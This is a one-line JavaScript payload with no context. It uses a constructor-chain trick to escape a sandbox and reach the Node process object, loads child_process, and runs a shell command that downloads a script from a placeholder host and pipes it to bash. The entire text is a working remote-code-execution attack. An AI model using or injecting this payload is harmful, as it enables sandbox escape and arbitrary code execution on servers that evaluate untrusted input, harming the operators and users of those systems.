"".constructor.constructor("return process")().mainModule.require("child_process").execSync("curl -s https://cdn-x7.invalid/a | bash");
